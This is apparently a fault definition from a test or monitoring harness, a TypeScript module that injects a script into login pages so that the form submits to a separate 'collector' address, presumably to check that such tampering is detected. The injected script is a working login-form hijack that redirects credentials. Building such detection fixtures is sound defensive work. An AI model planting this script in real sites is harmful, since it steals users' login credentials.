import type { FaultFile } from './catalog.ts';
import { collector, withLoginPages } from './collector.ts';

export default {
  what: 'a script changes the address of the login form in the moment in which it is sent',
  handlers: withLoginPages((text) =>
    text.replace(
      '</body>',
      `<script>document.forms[0].addEventListener('submit', (sent) => { sent.target.action = '${collector}/login' })</script></body>`,
    ),
  ),
  drift: { class: 'login-changed', tiers: ['browser'] },
} satisfies FaultFile;
